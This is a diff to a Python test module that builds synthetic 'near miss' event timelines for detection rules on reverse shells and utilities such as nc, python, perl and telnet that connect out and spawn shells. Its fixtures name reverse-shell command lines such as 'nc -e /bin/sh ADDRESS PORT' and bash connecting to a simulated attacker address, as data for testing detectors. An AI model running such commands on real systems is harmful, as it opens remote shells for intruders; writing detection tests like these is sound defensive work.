@@ -1,4 +1,4 @@
-"""Near misses: what differs from an attack in one thing only, and must match neither rule."""
+"""Near misses: activities that differ from an attack in one respect and match neither rule."""
 
 from __future__ import annotations
 
@@ -32,90 +32,88 @@ def _soon(line: Timeline) -> None:
     line.wait(3_000, 900_000)
 
 
-def _opener(line: Timeline, remote: Endpoint) -> Process:
-    """A shell that is about to connect, started as in the attacks."""
+def _opener(line: Timeline, remote: Endpoint | None = None) -> tuple[Process, Endpoint]:
+    """A shell that is about to connect, started as in the attacks, and the address: an attacker's by default."""
+    remote = attacker(line.rng) if remote is None else remote
     process = line.run(way_in(line), SampleProgram("/usr/bin/bash", ("bash", "-c", to_address(BASH, remote))))
     line.wait(1_000, 60_000)
-    return process
+    return process, remote
+
+
+def _connected(line: Timeline, remote: Endpoint | None = None) -> tuple[Process, str]:
+    """A shell that has connected, and the id of the connection's event."""
+    opener, remote = _opener(line, remote)
+    return opener, line.connect(opener, remote)
 
 
 # A shell connects, then starts a shell: but not quite.
 
 
 def shell_too_late(scene: Scene) -> Pair:
-    """The second shell starts a millisecond after the span."""
+    """The second shell starts a millisecond after the maxspan."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     line.now += TOO_LATE
     child = line.fork(opener)
-    second = line.steps[-1].event_id
+    second = line.last_id
     look_around(line, child)
     return first, second
 
 
 def shell_to(scene: Scene, *, address: str) -> Pair:
-    """The shell connects to an address that the rule leaves out."""
+    """The shell connects to an address that the rule excludes."""
     line = scene.here
-    remote = Endpoint("", address, 5432)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line, Endpoint("", address, 5432))
     _soon(line)
     line.fork(opener)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 def shell_event(
     scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
 ) -> Pair:
-    """The network event has another action or type, or lacks the destination."""
+    """The network event has another action or type, or no destination."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line)
     first = line.add_connection(opener, action, types=list(types), remote=remote, without_destination=lacks)
     _soon(line)
     line.fork(opener)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 def shell_on_other_host(scene: Scene) -> Pair:
-    """The second shell has the right parent by its entity id, on another host."""
+    """The second shell has the right parent entity id, on another host."""
     line, other = scene.here, scene.elsewhere
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     _soon(line)
     other.now = line.now
     other.fork(opener)
-    return first, other.steps[-1].event_id
+    return first, other.last_id
 
 
 def shell_of_other_parent(scene: Scene) -> Pair:
     """The second shell is a child of another shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line)
     bystander = line.run(line.rng.choice(line.machine.sessions), SampleProgram("/usr/bin/bash", ("bash", "-l")))
     first = line.connect(opener, remote)
     _soon(line)
     line.fork(bystander)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 def shell_before(scene: Scene) -> Pair:
     """The second shell starts before the connection."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
+    opener, remote = _opener(line)
     line.fork(opener)
-    second = line.steps[-1].event_id
+    second = line.last_id
     _soon(line)
     return line.connect(opener, remote), second
 
 
 def shell_on_windows(scene: Scene) -> Pair:
-    """All of it happens on a Windows host."""
+    """Both stages happen on a Windows host."""
     line = scene.windows
     remote = attacker(line.rng)
     path = "C:\\cygwin64\\bin\\bash"
@@ -129,16 +127,14 @@ def shell_on_windows(scene: Scene) -> Pair:
 def shell_child(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
     """The process event has another action or type, or lacks a field of the parent."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     _soon(line)
     child = line.machine.begin(SHELL, opener.user, at=line.now, parent=opener)
     return first, line.add_process(child, action, types=list(types), lacking=lacks)
 
 
 def other_program_connects(scene: Scene) -> Pair:
-    """What connects is a script in another language, which becomes a shell only then."""
+    """A script in another language connects, and executes a shell only afterwards."""
     line = scene.here
     remote = attacker(line.rng)
     opener = line.run(way_in(line), SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/open.rb")))
@@ -148,35 +144,31 @@ def other_program_connects(scene: Scene) -> Pair:
     line.execute(opener, SHELL)
     _soon(line)
     child = line.fork(opener)
-    second = line.steps[-1].event_id
+    second = line.last_id
     look_around(line, child)
     return first, second
 
 
 def other_program_starts(scene: Scene) -> Pair:
-    """What the shell starts is no shell."""
+    """The program that the shell starts is no shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     _soon(line)
-    child = line.spawn(opener, SampleProgram("/usr/bin/rsync", ("rsync", "-a", "/srv/data/", "/mnt/usb/")))
-    second = line.steps[-1].event_id
+    child = line.spawn(opener, line.words.program("/usr/bin/rsync rsync -a /srv/data/ /mnt/usb/"))
+    second = line.last_id
     line.end(child)
     return first, second
 
 
 def shell_became_other(scene: Scene) -> Pair:
-    """The shell runs another program by the time that it starts a shell."""
+    """The shell has executed another program before it starts a shell."""
     line = scene.here
-    remote = attacker(line.rng)
-    opener = _opener(line, remote)
-    first = line.connect(opener, remote)
+    opener, first = _connected(line)
     line.wait(900, 9_000)
-    line.execute(opener, SampleProgram("/usr/bin/script", ("script", "-q", "/dev/null")))
+    line.execute(opener, line.words.program("/usr/bin/script script -q /dev/null"))
     _soon(line)
     line.spawn(opener, SHELL)
-    return first, line.steps[-1].event_id
+    return first, line.last_id
 
 
 REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
@@ -203,19 +195,24 @@ REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
 
 # A utility starts, then connects: but not quite.
 
-PYTHON = ("python3", "-c", PYTHON_CALL)
-NC = ("nc", "-e", "/bin/sh", "ADDRESS", "PORT")
+PYTHON = "PYTHON python3 -c SCRIPT"
+NC = "/usr/bin/nc nc -e /bin/sh ADDRESS PORT"
 PYTHON_RUN = PYTHON_CALL.replace("subprocess.call(", "subprocess.run(")
 
 
+def _utility(line: Timeline, command: str, remote: Endpoint, *, script: str = PYTHON_CALL) -> tuple[Process, str]:
+    """A utility that is about to connect, started as in the attacks, and the id of its start."""
+    process = line.run(stager(line), utility(line, command, remote, script=script))
+    return process, line.last_id
+
+
 def utility_runs(
-    scene: Scene, *, path: str = "PYTHON", args: tuple[str, ...] = PYTHON, gap: int = 0, address: str = ""
+    scene: Scene, *, command: str = PYTHON, script: str = PYTHON_CALL, gap: int = 0, address: str = ""
 ) -> Pair:
-    """A utility starts and connects; its arguments, the address or the time between are not what the rule asks for."""
+    """A utility starts and connects, with other arguments, an excluded address or too long a gap."""
     line = scene.here
     remote = Endpoint("", address, 80) if address else attacker(line.rng)
-    process = line.run(stager(line), utility(line, path, args=args, remote=remote))
-    first = line.steps[-1].event_id
+    process, first = _utility(line, command, remote, script=script)
     if gap:
         line.now += gap
     else:
@@ -229,11 +226,10 @@ def utility_runs(
 def utility_event(
     scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
 ) -> Pair:
-    """The network event has another action or type, or lacks the destination."""
+    """The network event has another action or type, or no destination."""
     line = scene.here
     remote = attacker(line.rng)
-    process = line.run(stager(line), utility(line, "/usr/bin/nc", args=NC, remote=remote))
-    first = line.steps[-1].event_id
+    process, first = _utility(line, NC, remote)
     _soon(line)
     return first, line.add_connection(process, action, types=list(types), remote=remote, without_destination=lacks)
 
@@ -243,7 +239,7 @@ def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: s
     line = scene.here
     remote = attacker(line.rng)
     parent = stager(line)
-    program = utility(line, "/usr/bin/perl", args=("perl", "-e", PERL_EXEC), remote=remote)
+    program = utility(line, "/usr/bin/perl perl -e SCRIPT", remote, script=PERL_EXEC)
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, action, types=list(types), lacking=lacks)
     _soon(line)
@@ -254,43 +250,42 @@ def utility_on_other_host(scene: Scene) -> Pair:
     """The connection has the right entity id, on another host."""
     line, other = scene.here, scene.elsewhere
     remote = attacker(line.rng)
-    process = line.run(stager(line), utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
+    process, first = _utility(line, PYTHON, remote)
     _soon(line)
     other.now = line.now
     return first, other.connect(process, remote)
 
 
 def utility_of_other_entity(scene: Scene) -> Pair:
-    """What connects is another process with the same program, run for something else."""
+    """Another process of the same parent connects, not the utility."""
     line = scene.here
     remote = attacker(line.rng)
     parent = stager(line)
     bystander = line.run(parent, SampleProgram("/usr/bin/ruby", ("ruby", "/srv/app/bin/sidekiq")))
-    line.run(parent, utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
+    line.run(parent, utility(line, PYTHON, remote, script=PYTHON_CALL))
+    first = line.last_id
     _soon(line)
     return first, line.connect(bystander, remote)
 
 
 def utility_connects_before(scene: Scene) -> Pair:
-    """The process connects, and only then becomes the utility."""
+    """The process connects, and executes the utility only afterwards."""
     line = scene.here
     remote = attacker(line.rng)
     process = line.run(stager(line), SampleProgram("/usr/bin/perl", ("perl", "/tmp/open.pl")))
     line.wait(2_000, 40_000)
     second = line.connect(process, remote)
     _soon(line)
-    return line.execute(process, utility(line, "/usr/bin/nc", args=NC, remote=remote)), second
+    return line.execute(process, utility(line, NC, remote)), second
 
 
 def utility_on_windows(scene: Scene) -> Pair:
-    """All of it happens on a Windows host."""
+    """Both stages happen on a Windows host."""
     line = scene.windows
     remote = attacker(line.rng)
     path = "C:\\Program Files\\Python312\\python.exe"
     parent = line.start(line.machine.sessions[0], SampleProgram(path, (path, "C:\\Temp\\stage.py")))
-    program = SampleProgram(path, tuple(to_address(part, remote) for part in PYTHON))
+    program = SampleProgram(path, ("python3", "-c", to_address(PYTHON_CALL, remote)))
     process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
     first = line.add_process(process, "exec", types=["start"])
     _soon(line)
@@ -298,11 +293,12 @@ def utility_on_windows(scene: Scene) -> Pair:
 
 
 def utility_of_service(scene: Scene) -> Pair:
-    """The utility is started by a service that the rule does not name."""
+    """A service that the rule does not name starts the utility."""
     line = scene.here
     remote = attacker(line.rng)
-    process = line.spawn(line.machine.services["cron"], utility(line, "PYTHON", args=PYTHON, remote=remote))
-    first = line.steps[-1].event_id
+    program = utility(line, PYTHON, remote, script=PYTHON_CALL)
+    process = line.spawn(line.machine.services["cron"], program)
+    first = line.last_id
     _soon(line)
     return first, line.connect(process, remote)
 
@@ -315,25 +311,19 @@ CHILD_PROCESS_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
     ("wrong order", utility_connects_before),
     ("no destination.ip", partial(utility_event, lacks=True)),
     ("Windows host", utility_on_windows),
-    (
-        "-z beside -e",
-        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-z", "-e", "/bin/true", "ADDRESS", "PORT")),
-    ),
-    ("two arguments", partial(utility_runs, path="/usr/bin/telnet", args=("telnet", "ADDRESS"))),
-    (
-        "argument in another case",
-        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-E", "/bin/sh", "ADDRESS", "PORT")),
-    ),
+    ("-z beside -e", partial(utility_runs, command="/usr/bin/nc nc -z -e /bin/true ADDRESS PORT")),
+    ("two arguments", partial(utility_runs, command="/usr/bin/telnet telnet ADDRESS")),
+    ("argument in another case", partial(utility_runs, command="/usr/bin/nc nc -E /bin/sh ADDRESS PORT")),
     ("process.parent.name not in the list", utility_of_service),
-    ("process.name not in the list", partial(utility_runs, path="/usr/bin/gawk", args=("gawk", AWK))),
+    ("process.name not in the list", partial(utility_runs, command="/usr/bin/gawk gawk SCRIPT", script=AWK)),
     ("disconnect_received", partial(utility_event, action="disconnect_received", types=("start", "end"))),
     ("other entity", utility_of_other_entity),
     ("multicast 224.0.0.0/4", partial(utility_runs, address="224.0.0.251")),
     ("loopback ::1", partial(utility_runs, address="::1")),
-    ("other arguments", partial(utility_runs, args=("python3", "-c", PYTHON_RUN))),
+    ("other arguments", partial(utility_runs, script=PYTHON_RUN)),
     ("event.type end of the process", partial(utility_start, action="exec", types=("end",))),
     ("event.action already_running", partial(utility_start, action="already_running", types=("start", "info"))),
     ("no process.parent.name", partial(utility_start, action="exec", types=("start",), lacks="name")),
     ("event.type end of the connection", partial(utility_event, types=("end",))),
-    ("perl of a version", partial(utility_runs, path="/usr/bin/perl5.36.0", args=("perl", "-e", PERL_EXEC))),
+    ("perl of a version", partial(utility_runs, command="/usr/bin/perl5.36.0 perl -e SCRIPT", script=PERL_EXEC)),
 )
